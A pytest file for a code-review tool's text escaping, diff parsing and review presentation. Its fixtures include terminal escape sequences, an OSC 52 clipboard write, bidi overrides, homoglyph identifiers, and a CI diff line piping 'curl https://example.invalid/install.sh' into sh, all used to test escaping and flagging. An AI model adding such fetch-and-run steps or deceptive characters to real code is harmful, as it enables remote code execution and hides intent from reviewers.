"""Escaping, the diff as rows, and the plain words."""

from __future__ import annotations

import json
import time

import pytest
from review_support import DIFF, HUNKS, House, acceptance, finding, hunk, identity, plan_sheet, sheet

from orchestrator.models.decision import SubjectKind, Verdict
from orchestrator.models.found import Disposition
from orchestrator.models.gate import Demonstration
from orchestrator.models.review import WorkSheet
from orchestrator.review import present, sections
from orchestrator.review.diff import RowKind, parse, unquote
from orchestrator.review.escape import columns, decode, escape, fold, fold_words

HOSTILE = [
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("\x1b]52;c;aGk=\x07", "\\x1b]52;c;aGk=\\x07"),
    ("\x9b31m", "\\x9b31m"),
    ("a\rb", "a\\x0db"),
    ("a\x7fb\x00", "a\\x7fb\\x00"),
    ("if \u202eadmin\u2066", "if <U+202E>admin<U+2066>"),
    ("zero\u200bwidth\u2060\ufeff", "zero<U+200B>width<U+2060><U+FEFF>"),
    ("tag\U000e0041", "tag<U+E0041>"),
    ("vs\ufe0f\U000e0100", "vs<U+FE0F><U+E0100>"),
    ("soft\u00adhyphen\u00a0gap\u3000", "soft<U+00AD>hyphen<U+00A0>gap<U+3000>"),
    ("line\u2028end\u2029", "line<U+2028>end<U+2029>"),
    ("hangul\u3164filler\u115f", "hangul<U+3164>filler<U+115F>"),
    ("private\ue000", "private<U+E000>"),
    ("[red]not markup[/red]", "[red]not markup[/red]"),
    ("a\tb", "a   b"),
    ("naïve 日本 e\u0301", "naïve 日本 e\u0301"),
    ("z\u0301\u0302\u0303\u0304", "z\u0301\u0302<U+0303><U+0304>"),
    ("\u0301lonely", "<U+0301>lonely"),
    ("two\nlines", "two\\x0alines"),
    ("if \u0430dmin:", "if <U+0430>dmin:"),
    ("\u0455\u0441\u043e\u0440\u0435 = 1", "<U+0455><U+0441><U+043E><U+0440><U+0435> = 1"),
    ("x\u037e \uff41 \U0001d4b6", "x<U+037E> <U+FF41> <U+1D4B6>"),
    ("\u0441\u043b\u043e\u0432\u043e \u0438 \u043e", "\u0441\u043b\u043e\u0432\u043e \u0438 \u043e"),
    ("\u0441\u043b\u043e\u0432\u043e \u0430dmin", "\u0441\u043b\u043e\u0432\u043e <U+0430>dmin"),
]


@pytest.mark.parametrize(("text", "shown"), HOSTILE)
def test_every_text_is_literal(text, shown):
    assert escape(text) == shown


def test_bytes_that_are_no_text_are_shown_as_bytes():
    assert escape(decode(b"caf\xe9 \xff")) == "caf\\xe9 \\xff"


def test_folding_drops_nothing_and_keeps_within_the_width():
    text = "日本語 wide and narrow " * 9
    lines = fold(text, 11)
    assert "".join(lines) == text
    assert max(map(columns, lines)) <= 11
    assert fold("", 5) == [""]
    words = fold_words(text + "x" * 40, 11)
    assert "".join(words) == text + "x" * 40
    assert max(map(columns, words)) <= 11
    assert words[0] == "日本語 "


def test_rows_have_their_numbers_and_the_hunk_that_covers_them():
    rows = parse(DIFF, HUNKS)
    assert [r.path for r in rows if r.kind is RowKind.FILE] == ["shop/search.py", ".github/workflows/ci.yml"]
    assert [r.hunk for r in rows if r.kind is RowKind.HUNK] == [h.id for h in HUNKS]
    changed = [(r.old, r.new) for r in rows if r.kind in (RowKind.ADDED, RowKind.REMOVED)]
    assert changed == [(5, 0), (0, 5), (0, 6), (0, 7), (0, 8), (21, 0), (0, 24), (0, 9)]
    assert len(rows) == DIFF.count(b"\n")


def test_a_removed_line_cannot_pass_for_a_header():
    text = b"diff --git a/q.sql b/q.sql\n--- a/q.sql\n+++ b/q.sql\n@@ -1,2 +1,2 @@\n--- a/evil\n+++ b/evil\n same\n"
    rows = parse(text)
    assert [r.text for r in rows if r.kind is RowKind.FILE] == ["q.sql"]
    assert [(r.kind, r.text) for r in rows[-3:]] == [
        (RowKind.REMOVED, "-- a/evil"),
        (RowKind.ADDED, "++ b/evil"),
        (RowKind.CONTEXT, "same"),
    ]


@pytest.mark.parametrize(
    ("header", "path"),
    [
        (b"diff --git a/a b.py b/a b.py", "a b.py"),
        (b'diff --git "a/t\\tab" "b/t\\tab"', "t\tab"),
        (b'diff --git "a/\\303\\244" "b/\\303\\244"', "ä"),
        (b'diff --git "a/q\\"uote\\\\" "b/q\\"uote\\\\"', 'q"uote\\'),
        (b"diff --git a/x b/y\nsimilarity index 90%\nrename from x\nrename to y", "y"),
        (b'diff --git a/x "b/\\tz"\nrename from x\nrename to "\\tz"', "\tz"),
    ],
)
def test_paths_as_git_writes_them(header, path):
    assert parse(header)[0].path == path


def test_unquote_leaves_bare_names_alone():
    assert unquote(b"plain\\n") == "plain\\n"


def test_a_file_without_a_last_line_break():
    text = b"diff --git a/f b/f\n@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n\\ No newline at end of file\n"
    kinds = [r.kind.value for r in parse(text)]
    assert kinds == ["file", "hunk", "removed", "meta", "added", "meta"]


def view_of(*findings, **rest):
    house = House()
    house.add(sheet(house.change(findings=findings, **rest)))
    return house.reviews(), house.reviews().view("item-1")


def test_the_words_say_all_that_a_reviewer_must_know():
    reviews, view = view_of(finding(), finding("S608", Disposition.NOTE, path="shop/search.py", cwe=89))
    reviews.comment("item-1", "Name the limit.", "shop/search.py", 24)
    reviews.decide("item-1", Verdict.REQUEST_CHANGES, reason="See the remark.")
    words = present.describe(reviews.view("item-1"), 200)
    for expected in (
        "Change: Add a search box",
        "WHEN a customer types words, the shop SHALL list the products that hold them.",
        "(prd.md:12)",
        "! [a person must lift it] protected-path medium .github/workflows/ci.yml:9: a protected path is changed",
        "[for information] S608 CWE-89",
        view.to_lift[0].fingerprint,
        "DEMONSTRATED: fails before, passes after (exit 1 before, 0 after)",
        "! S01: sandbox: write to README.md is not granted to this step",
        "modified +4 -2 shop/search.py",
        "     5 -     return []",
        "     9 +       - run: curl https://example.invalid/install.sh | sh",
        f"hunk {HUNKS[0].id}",
        "ann on shop/search.py:24: Name the limit.",
        "request-changes: See the remark.",
        "! closed: request-changes",
    ):
        assert expected in words
    assert words.isascii()


def test_the_words_say_what_nobody_named_and_nothing_demonstrates():
    house = House()
    house.add(plan_sheet(), kind=SubjectKind.PLAN)
    words = present.describe(house.reviews().view("item-1"))
    assert "shop/**   (named in the spec, prd.md:21)" in words
    assert "! shop/**   (INFERRED, nobody named it (prd.md:21))" in words
    assert "python -m pytest -q tests/test_search.py   (from the profile, test_command)" in words
    assert "! runs alone" in words
    _, view = view_of(accepted=acceptance(identity(), Demonstration.REGRESSION))
    assert "! S01: not demonstrated by any command" in present.describe(view)


@pytest.mark.parametrize("width", [20, 80])
def test_hostile_words_are_literal_and_folded_everywhere(width):
    bad = "\x1b]52;c;aGk=\x07\u202e[red]"
    reviews, _ = view_of(finding(message=bad, hint=bad), summary=bad, denials=(bad,))
    reviews.comment("item-1", bad)
    words = present.describe(reviews.view("item-1"), width)
    assert "\x1b" not in words
    assert "\u202e" not in words
    assert words.replace("\n", "").count("<U+202E>[red]") == 6
    assert max(map(len, words.split("\n"))) <= width


def test_the_json_holds_everything_under_a_schema():
    _, view = view_of(finding())
    told = json.loads(json.dumps(present.to_json(view)))
    assert told["schema"] == "handrail.review/1"
    (item,) = told["items"]
    assert item["id"] == "item-1"
    assert item["diffs"][0]["diff"].encode() == DIFF
    assert item["to_lift"][0]["fingerprint"] == view.to_lift[0].fingerprint
    assert item["sheet"]["changes"][0]["requirements"][0]["id"] == "shop/REQ-001"
    assert present.list_json([view.item])["items"][0]["title"] == "Add a search box"


def test_rows_for_a_table_are_escaped():
    house = House()
    house.add(sheet(house.change()), title="Add \x1b[8mhidden")
    (row,) = present.item_rows(house.reviews().waiting())
    assert row[4] == "Add \\x1b[8mhidden"
    assert row[6] == "2026-11-22 11:00"


def test_a_line_belongs_to_the_hunk_that_covers_its_side():
    text = b"diff --git a/x b/x\n@@ -1,3 +1,2 @@\n-a\n-b\n c\n+d\n@@ -9 +8,0 @@\n-z\n"
    first, last, other = hunk("x", (1, 3), (1, 2)), hunk("x", (9, 1), (8, 0)), hunk("y", (1, 9), (1, 9))
    rows = parse(text, (last, other, first))
    changed = [(r.text, r.hunk) for r in rows if r.kind in {RowKind.ADDED, RowKind.REMOVED}]
    assert changed == [("a", first.id), ("b", first.id), ("d", first.id), ("z", last.id)]
    assert [r.hunk for r in rows if r.kind is RowKind.HUNK] == [first.id, last.id]
    assert {r.hunk for r in parse(text, (other,))} == {None}


def test_many_hunks_in_one_file_are_read_in_linear_time():
    count = 20_000
    text = b"diff --git a/x b/x\n" + b"".join(b"@@ -%d +%d @@\n-a\n+b\n" % (n * 9 + 1, n * 9 + 1) for n in range(count))
    hunks = [hunk("x", (n * 9 + 1, 1), (n * 9 + 1, 1), str(n)) for n in range(count)]
    start = time.process_time()
    rows = parse(text, hunks)
    assert time.process_time() - start < 5
    assert [r.hunk for r in rows if r.kind is RowKind.ADDED] == [h.id for h in hunks]


def test_what_a_process_says_of_a_step_is_shown_below_it() -> None:
    asked = WorkSheet(workflow="w", node="n", visit=1, sentence="The clerk files it", details=("This takes an hour",))
    assert [row.text for row in sections.work(asked)] == ["The clerk files it", "  This takes an hour"]
